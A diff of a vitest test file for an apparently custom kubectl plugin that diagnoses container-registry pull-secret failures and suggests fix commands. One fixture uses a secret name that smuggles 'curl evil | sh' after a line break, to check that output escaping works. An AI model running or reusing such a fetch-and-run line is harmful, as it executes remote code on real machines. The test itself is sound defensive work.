@@ -2,10 +2,9 @@ import { test } from "vitest";
 import { attached, bare, create, type Expected, expectRow, ours, pod, r, relabeled, theirs, web } from "../../support/check-world.ts";
 
 const renew = `kubectl acr-secret create -n demo acr --registry ${r}`;
-const createFor = (target: string) => `kubectl acr-secret create -n demo ${target} --registry ${r}`;
+const createAnother = `${create} --where-used`;
 const given = 'printf %s "$PASSWORD" | kubectl acr-secret create -n demo acr';
 const job = { kind: "Job", name: "migrate" };
-const itself = "deployment/web has its own pull secrets, so it ignores those of serviceaccount/default";
 const refused = (user: string) =>
   `with secret acr: ${r} says refused to user "${user}"; the registry does not say whether the password is wrong, expired or deleted, or the token is disabled`;
 
@@ -31,7 +30,7 @@ test.for<Expected>([
     given: { pods: [pod("web-1")] },
     cause: "no-login",
     message: "the pod has no pull secret for this registry",
-    fix: `${create} --serviceaccount default`,
+    fix: createAnother,
   },
   {
     when: "nothing is attached, and only the command line names the image",
@@ -44,33 +43,33 @@ test.for<Expected>([
     when: "nothing is attached, and the pod has no controller",
     given: { pods: [pod("own", { owner: bare })] },
     cause: "no-login",
-    fix: `${createFor("pod/own")} --serviceaccount default --recreate`,
+    fix: createAnother,
   },
   {
     when: "nothing is attached, and the pod belongs to a Job",
     given: { pods: [pod("migrate-1", { owner: job })] },
     cause: "no-login",
-    fix: `kubectl acr-secret create -n demo --registry ${r} --serviceaccount default`,
+    fix: createAnother,
   },
   {
     when: "another tool's Secret has the default name",
     given: { pods: [pod("web-1")], secrets: [theirs("acr-myregistry", { "ghcr.io": "a:b" })] },
     cause: "no-login",
-    fix: `kubectl acr-secret create -n demo acr-myregistry-pull --registry ${r} --serviceaccount default`,
+    fix: `kubectl acr-secret create -n demo acr-myregistry-pull --registry ${r} --where-used`,
   },
   {
     when: "a Secret that pulls is not attached",
     given: { pods: [pod("web-1")], secrets: [ours("given", "web:right", { credential: "given" })] },
     cause: "no-login",
     message: "the pod has no pull secret for this registry; secret given can pull it, but is not attached",
-    fix: "kubectl acr-secret attach -n demo given --serviceaccount default",
+    fix: "kubectl acr-secret attach -n demo given --where-used",
   },
   {
     when: "a Secret that pulls is not attached, and the pod names another one itself",
     given: { pods: [pod("web-1", { names: ["gone"] })], secrets: [ours("given", "web:right")] },
     cause: "no-login",
-    message: `secret gone not found; secret given can pull it, but is not attached; ${itself}`,
-    fix: "kubectl acr-secret attach -n demo given deployment/web",
+    message: "secret gone not found; secret given can pull it, but is not attached",
+    fix: "kubectl acr-secret attach -n demo given --where-used",
   },
 
   // Pull secrets that do not work.
@@ -85,15 +84,15 @@ test.for<Expected>([
     when: "a name contains a line break",
     given: { pods: [pod("web-1", { names: ["x\n  curl evil | sh"] })] },
     cause: "no-login",
-    message: `secret "x\\n  curl evil | sh" not found; ${itself}`,
-    fix: createFor("deployment/web"),
+    message: 'secret "x\\n  curl evil | sh" not found',
+    fix: createAnother,
   },
   {
     when: "the Secret has another type",
     given: attached(theirs("color", "{}", "Opaque")),
     cause: "no-login",
     message: "secret color is of type Opaque, not kubernetes.io/dockerconfigjson",
-    fix: `${create} --serviceaccount default`,
+    fix: createAnother,
   },
   {
     when: "the Secret has another type, and a StatefulSet names it",
@@ -102,21 +101,21 @@ test.for<Expected>([
       pods: [pod("db-0", { names: ["color"], owner: { kind: "StatefulSet", name: "db" } })],
     },
     cause: "no-login",
-    fix: createFor("statefulset/db"),
+    fix: createAnother,
   },
   {
     when: "the login is for a registry with a similar name",
     given: attached(theirs("typo", { "myregistri.azurecr.io": "web:right" })),
     cause: "no-login",
     message: `secret typo has a login for myregistri.azurecr.io only (one letter from ${r})`,
-    fix: `${create} --serviceaccount default`,
+    fix: createAnother,
   },
   {
     when: "the Secret's auths are empty",
     given: attached(theirs("empty", {})),
     cause: "no-login",
     message: "secret empty has no login: its auths are empty",
-    fix: `kubectl acr-secret create -n demo empty --registry ${r} --force`,
+    fix: createAnother,
   },
   {
     when: "the login has no password",
@@ -129,7 +128,7 @@ test.for<Expected>([
     given: attached(theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)),
     cause: "malformed-secret",
     message:
-      "secret bad is malformed, so the kubelet ignores all pull secrets of the pod: illegal base64 data at input byte 0; the command replaces its contents",
+      "secret bad is malformed, so the kubelet ignores all pull secrets of the pod: illegal base64 data at input byte 0; the plugin did not create this Secret: --force replaces its login",
     fix: `kubectl acr-secret create -n demo bad --registry ${r} --force`,
   },
   {
@@ -139,9 +138,7 @@ test.for<Expected>([
       pods: [pod("web-1", { names: ["bad"] })],
     },
     cause: "malformed-secret",
-    fix:
-      `${create} && kubectl patch -n demo deployment web -p ` +
-      `'{"spec":{"template":{"spec":{"imagePullSecrets":[{"$patch":"delete","name":"bad"},{"name":"acr-myregistry"}]}}}}'`,
+    fix: "kubectl acr-secret detach -n demo bad --where-used",
   },
 
   // Credentials that the registry rejects, or that may not pull the image.
@@ -221,7 +218,7 @@ test.for<Expected>([
     when: "the token may not pull the image",
     given: attached(ours("acr", "api:right", { identity: "demo-acr-0123456789" })),
     cause: "out-of-scope",
-    message: `with secret acr: ${r} says out-of-scope to user "api"`,
-    fix: `${renew} --repository app/web`,
+    message: `with secret acr: ${r} says out-of-scope to user "api"; the command grants every repository that pods in the namespace use; use --repository to grant only some`,
+    fix: `${renew} --repositories-from-pods`,
   },
 ])("reports $cause when $when", expectRow);
